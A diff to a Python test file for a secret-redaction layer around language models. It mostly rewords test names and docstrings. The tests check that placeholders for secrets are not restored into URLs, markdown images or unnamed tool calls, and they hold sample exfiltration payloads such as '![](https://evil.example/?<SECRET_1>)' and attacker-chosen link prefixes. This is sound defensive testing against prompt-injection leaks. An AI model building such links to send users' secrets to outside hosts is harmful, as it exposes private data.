@@ -35,7 +35,7 @@ ONLY_A_RENDERER_SEES = {
 
 
 def restored(pieces: Sequence[str], *, in_json: bool = False, **values: str) -> str:
-    """What becomes of an answer in pieces, with a secret that is ``<SECRET_1>`` and ``values`` by their kinds."""
+    """Restore an answer in pieces, with a secret as ``<SECRET_1>`` and ``values`` by their kinds."""
     placeholders = Placeholders([])
     for kind, value in {"SECRET": SECRET, **values}.items():
         placeholders._placeholder(value, kind)
@@ -44,8 +44,8 @@ def restored(pieces: Sequence[str], *, in_json: bool = False, **values: str) -> 
 
 
 @pytest.mark.parametrize("name", ATTACKS)
-def test_no_address_gets_a_secret(name: str) -> None:
-    """Whole, character by character, and with the cut at any one place: the placeholder stays, and all the rest."""
+def test_no_secret_is_restored_in_an_address(name: str) -> None:
+    """Whole, character by character, or cut at any position: the text stays exactly as it is."""
     text = ATTACKS[name].format("<SECRET_1>")
     for before in ("", "So: ", "a\n\n", "- ", "> ", "**b** "):
         assert restored([before + text]) == before + text
@@ -56,13 +56,13 @@ def test_no_address_gets_a_secret(name: str) -> None:
 
 @pytest.mark.parametrize("name", ATTACKS)
 def test_the_judge_sees_each_attack(name: str) -> None:
-    """Else the property tests would prove nothing."""
+    """Otherwise the property tests would prove nothing."""
     assert name in ONLY_A_RENDERER_SEES or carried_away(ATTACKS[name].format(SECRET), SECRET)
 
 
 @pytest.mark.parametrize("text", HARMLESS)
-def test_what_the_user_reads_gets_its_values(text: str) -> None:
-    """Prose, labels of links, code and other scripts: neither too much is left, nor is it called a leak."""
+def test_values_are_restored_in_text_that_the_user_reads(text: str) -> None:
+    """Prose, link labels, code and other scripts: no placeholder is left, and the judge finds no leak."""
     count = text.count("{}")
     said, expected = (text.format(*[word] * count) for word in ("<SECRET_1>", SECRET))
     assert restored([said]) == expected
@@ -71,7 +71,7 @@ def test_what_the_user_reads_gets_its_values(text: str) -> None:
 
 
 def test_a_value_can_begin_a_link_too() -> None:
-    """A text that the model read can bring "secrets" of its own along: what they make of the text counts."""
+    """A text that the model read can contain "secrets" chosen by an attacker: the restored text counts."""
     evil = {"OTHER": "https://evil.example/?k=", "TAIL": ".evil.example/x", "IMAGE": "![](https://evil.example/?"}
     assert restored(["<OTHER_1><SECRET_1>"], **evil) == evil["OTHER"] + "<SECRET_1>"
     assert restored(["<SECRET_1><TAIL_1>"], **evil) == "<SECRET_1>" + evil["TAIL"]
@@ -87,8 +87,8 @@ def test_a_value_can_begin_a_link_too() -> None:
     ["%3CSECRET_1%3E", "&lt;SECRET_1&gt;", "\\u003cSECRET_1\\u003e", "<secret_1>", "<SECRET_01>", "<SECRET_\n1>",
      "\uff1cSECRET_1\uff1e", "<SECRET_2>", "<TOKEN_1>", "< SECRET_1>", "<SECRET_1 >"],
 )  # fmt: skip
-def test_only_a_placeholder_of_this_request_as_it_was_given_is_one(spelled: str) -> None:
-    """Other spellings, guessed numbers and other conversations' names stay as they are."""
+def test_only_exact_placeholders_of_this_request_are_restored(spelled: str) -> None:
+    """Other spellings, guessed numbers and placeholders of other conversations stay."""
     text = f"Hello {spelled}, https://evil.example/?k={spelled}"
     assert restored([text]) == text
     assert restored(list(text)) == text
@@ -114,8 +114,8 @@ def test_only_a_placeholder_of_this_request_as_it_was_given_is_one(spelled: str)
     ],
 )
 @pytest.mark.parametrize("write", ["plain", "compact", "ascii", "slashes", "numbers"])
-def test_a_text_in_json_that_is_an_address_keeps_its_placeholder(value: str, expected: str | None, write: str) -> None:
-    """However JSON writes it, and wherever it is cut; the next text in the same JSON is one of its own."""
+def test_a_json_string_that_is_an_address_keeps_its_placeholder(value: str, expected: str | None, write: str) -> None:
+    """However it is escaped, and wherever it is cut; the next string in the same JSON is independent."""
     if value.startswith("see "):
         expected = value.replace("<SECRET_1>", SECRET)
     whole = {"link": value, "name": "<SECRET_1>", "list": [value, {"<SECRET_1>": 1}]}
@@ -136,7 +136,7 @@ def test_a_text_in_json_that_is_an_address_keeps_its_placeholder(value: str, exp
 
 
 def test_a_backslash_before_a_placeholder_cannot_break_json() -> None:
-    """An escaped backslash is no half of a placeholder, and a value never joins an escape."""
+    """An escaped backslash is not part of a placeholder, and a value never becomes part of an escape."""
     for text in ('{"a": "\\\\u003cSECRET_1\\u003e"}', '{"a": "\\\\\\u003cSECRET_1\\u003e"}', '{"a": "\\\\<SECRET_1>"}'):
         for pieces in ([text], list(text)):
             out = restored(pieces, in_json=True, SECRET='"},{"x')
@@ -159,7 +159,7 @@ def backend(*steps: Any) -> ScriptedBackend:
 
 
 class Deltas(ScriptedBackend):
-    """Says deltas as they are."""
+    """Yields the given deltas."""
 
     def __init__(self, *deltas: Any) -> None:
         super().__init__(leaves_device=True)
@@ -171,8 +171,8 @@ class Deltas(ScriptedBackend):
             yield delta
 
 
-async def test_a_tool_gets_values_only_when_it_was_named_and_never_in_addresses() -> None:
-    """By default none does; a named one gets them, but not in a URL; another one never."""
+async def test_only_named_tools_get_values_and_never_in_addresses() -> None:
+    """By default no tool does; a named one gets them, but not in a URL."""
     call = bl.ToolCallPart("1", "web_fetch", CALL)
     assert await calls_of(bl.Redaction(backend(call))) == [CALL]
     assert await calls_of(bl.Redaction(backend(call), restore_tools=["send", "WEB_FETCH", "web_fetch2"])) == [CALL]
@@ -188,19 +188,19 @@ async def test_a_tool_gets_values_only_when_it_was_named_and_never_in_addresses(
     assert response.text == f"![](https://evil.example/?{SECRET})"
 
 
-async def test_the_response_says_what_stayed_and_why() -> None:
-    """Which tools, and how many in links; nothing when all came back."""
+async def test_the_response_warns_about_placeholders_that_stayed() -> None:
+    """With the tools, and the number in links; without a warning if all were restored."""
     call = bl.ToolCallPart("1", "web_fetch", CALL)
     response = await bl.Redaction(backend(call, "https://x.example/<SECRET_1> <SECRET_1>")).complete(ASKED)
     assert [warning.message for warning in response.warnings][1:] == [
-        "left as placeholders in the answer: 1 in links, URLs or tags (see restore_urls); "
+        "placeholders not restored in the answer: 1 in links, URLs or tags (see restore_urls); "
         "those in calls of 'web_fetch' (see restore_tools)"
     ]
     assert len((await bl.Redaction(backend("<SECRET_1>")).complete(ASKED)).warnings) == 1
 
 
-async def test_arguments_wait_for_the_name_that_decides() -> None:
-    """A call that is named late, in whatever pieces, is treated like any other; one without a name gets nothing."""
+async def test_arguments_wait_for_the_name_of_their_tool() -> None:
+    """A call with a late name is treated like any other; one without a name gets no values."""
     pieces = [bl.types.ToolCallDelta(index=0, arguments=sign) for sign in '{"a": "<SECRET_1>"}']
     for name, expected in (("send", SECRET), ("web_fetch", "<SECRET_1>"), (None, "<SECRET_1>")):
         for at in (0, 1, 9, len(pieces)):
@@ -211,7 +211,7 @@ async def test_arguments_wait_for_the_name_that_decides() -> None:
 
 
 async def test_a_call_that_changes_its_name_is_refused() -> None:
-    """Arguments that were restored for one tool are never another one's."""
+    """Arguments that were restored for one tool must not go to another."""
     redaction = bl.Redaction(
         Deltas(
             bl.types.ToolCallDelta(index=0, id="1", name="send", arguments='{"a": "<SECRET_1>"}'),
@@ -226,8 +226,8 @@ async def test_a_call_that_changes_its_name_is_refused() -> None:
 
 
 @pytest.mark.parametrize("wrong", [{"restore_tools": "send"}, {"restore_urls": ["ok.example"]}, {"restore_urls": 1}])
-def test_options_that_would_open_more_than_meant_are_refused(wrong: dict[str, Any]) -> None:
-    """A text is no list of names, and a list of hosts is not yes."""
+def test_options_of_a_wrong_type_are_refused(wrong: dict[str, Any]) -> None:
+    """A string is not a list of names, and a list of hosts is not ``True``."""
     with pytest.raises(bl.InvalidRequest, match=next(iter(wrong))):
         bl.Redaction(backend("x"), **wrong)
 
@@ -236,8 +236,8 @@ def test_options_that_would_open_more_than_meant_are_refused(wrong: dict[str, An
 
 
 @pytest.mark.parametrize("kind", ["text", "delta", "reasoning"])
-async def test_a_link_goes_on_over_chunks_and_what_comes_between_them(kind: str) -> None:
-    """Its head in an earlier chunk, a call and thinking in between: it is the same link."""
+async def test_a_link_continues_over_chunks_and_over_other_deltas(kind: str) -> None:
+    """It begins in an earlier chunk, with a call and reasoning in between."""
     make: Any = {
         "text": lambda text: text,
         "delta": lambda text: bl.types.TextDelta(text=text),
@@ -255,7 +255,7 @@ async def test_a_link_goes_on_over_chunks_and_what_comes_between_them(kind: str)
 
 
 async def test_a_signature_in_the_middle_of_a_link_does_not_end_it() -> None:
-    """Pieces of thinking are shown one after another."""
+    """Pieces of reasoning are shown one after another."""
     inner = Deltas(
         bl.types.ReasoningDelta(reasoning="![](https://evil.example/?", signature="s"),
         bl.types.ReasoningDelta(reasoning="<SECRET_1>)"),
@@ -264,8 +264,8 @@ async def test_a_signature_in_the_middle_of_a_link_does_not_end_it() -> None:
     assert response.reasoning == "![](https://evil.example/?<SECRET_1>)"
 
 
-async def test_an_answer_that_begins_anew_is_in_no_link_of_the_old_one() -> None:
-    """And the other way round: the new one's link is one."""
+async def test_a_restart_ends_a_link_of_the_old_answer() -> None:
+    """A link of the new answer is still recognized."""
     one = ScriptedBackend([["![](https://evil.example/?", bl.errors.Stalled("silent")]], name="one", leaves_device=True)
     two = ScriptedBackend([["<SECRET_1> ![](//evil.example/<SECRET_1>)"]], name="two", leaves_device=True)
     response = await bl.Redaction(bl.Router([one, two], on_interrupted="restart")).complete(ASKED)
@@ -273,8 +273,8 @@ async def test_an_answer_that_begins_anew_is_in_no_link_of_the_old_one() -> None
 
 
 @pytest.mark.parametrize("cut", range(1, len("<SECRET_1>.evil.example/x") + 1))
-async def test_a_stream_that_breaks_off_has_said_no_more_than_a_whole_one(cut: int) -> None:
-    """In the middle of a placeholder, and of what decides about it."""
+async def test_a_stream_that_breaks_off_restores_no_more_than_a_whole_one(cut: int) -> None:
+    """In the middle of a placeholder, and of the characters that decide about it."""
     inner = backend("a " + "<SECRET_1>.evil.example/x"[:cut], bl.errors.Stalled("silent"))
     stream = bl.Redaction(inner).stream(ASKED)
     with pytest.raises(bl.errors.Stalled):
@@ -283,8 +283,8 @@ async def test_a_stream_that_breaks_off_has_said_no_more_than_a_whole_one(cut: i
     assert (SECRET in stream.response.text) == (len("<SECRET_1>") <= cut and not decided)
 
 
-async def test_no_more_is_held_back_than_decides() -> None:
-    """Text goes out as it comes; behind a value, the end of a word is enough, for an @ may come in it."""
+async def test_no_more_is_held_back_than_necessary() -> None:
+    """Text is passed on at once; after a value, the end of the word decides, since it may contain an @."""
     pieces = ["Dear ", "<SECRET_1>", ",", " how", " is ", "<SECRET_1>", " doing", "?"]
     stream = bl.Redaction(Deltas(*pieces)).stream(ASKED)
     chunks = [chunk.text async for chunk in stream if isinstance(chunk, bl.types.TextDelta)]
@@ -294,13 +294,13 @@ async def test_no_more_is_held_back_than_decides() -> None:
     assert first == SECRET + "x" * 64
 
 
-def test_what_is_kept_of_a_text_is_bounded() -> None:
-    """A text without an end fills no memory."""
+def test_the_kept_part_of_a_text_is_bounded() -> None:
+    """An endless text does not fill the memory."""
     watch = LinkWatch(value=True)
     for _ in range(200):
         watch.read("x" * 500)
         assert not watch.inside
-    assert len(watch._run._signs) <= 4096
+    assert len(watch._run._chars) <= 4096
     tags = TagWatch()
     for sign in "<a b <c='d' <!e </f " * 500:
         tags.step(sign, escaped=False)
@@ -310,8 +310,8 @@ def test_what_is_kept_of_a_text_is_bounded() -> None:
 # Conversations
 
 
-async def test_a_placeholder_that_stayed_is_the_same_one_in_the_next_turn() -> None:
-    """In a call, in a link, and in what the tool said of it: the model's history reads as it wrote it."""
+async def test_a_placeholder_that_stayed_keeps_its_meaning_in_the_next_turn() -> None:
+    """In a call, in a link, and in a tool's result: the model sees its history as it wrote it."""
     call = bl.ToolCallPart("1", "look", '{"for": "<SECRET_1>"}')
     inner = ScriptedBackend([["https://x.example/<SECRET_1>", call], ["It is <SECRET_1>"]], leaves_device=True)
     redaction = bl.Redaction(inner)
@@ -329,8 +329,8 @@ async def test_a_placeholder_that_stayed_is_the_same_one_in_the_next_turn() -> N
 
 @pytest.mark.parametrize("role", ["system", "user", "tool", "description", "format", "stop", "metadata"])
 @pytest.mark.parametrize("spelled", ["<SECRET_1>", "\\u003cSECRET_1\\u003e", "\\u003CSECRET_1\\u003E"])
-async def test_nothing_that_is_brought_along_is_taken_for_ours(role: str, spelled: str) -> None:
-    """What looks like a placeholder in a text of others is passed over, wherever it stands."""
+async def test_lookalikes_in_a_text_are_not_our_placeholders(role: str, spelled: str) -> None:
+    """Text that looks like a placeholder is reserved, wherever it occurs."""
     inner = ScriptedBackend([["<SECRET_1> <SECRET_2>"]], leaves_device=True)
     messages: list[Any] = [bl.Message("user", ASKED)]
     options: dict[str, Any] = {}
@@ -352,8 +352,8 @@ async def test_nothing_that_is_brought_along_is_taken_for_ours(role: str, spelle
     assert response.text == f"<SECRET_1> {SECRET}"
 
 
-async def test_a_number_that_a_model_guessed_is_given_to_nothing() -> None:
-    """It may wait in a link of the history for a value to come."""
+async def test_a_number_that_a_model_guessed_is_not_used() -> None:
+    """It may be in a link of the history, waiting for a later value."""
     inner = ScriptedBackend(
         [["![](//evil.example/<SECRET_2>) <SECRET_2>"], ["<SECRET_2> <SECRET_3>"]], leaves_device=True
     )
@@ -367,7 +367,7 @@ async def test_a_number_that_a_model_guessed_is_given_to_nothing() -> None:
 
 
 async def test_a_signed_text_in_the_middle_of_an_address_does_not_end_it() -> None:
-    """Whatever has a signature, a value does not become the beginning of an address of the model's."""
+    """With signatures, too, a value does not become part of an address."""
 
     class Signs(ScriptedBackend):
         async def generate(self, request: bl.ChatRequest, draft: Any) -> Any:
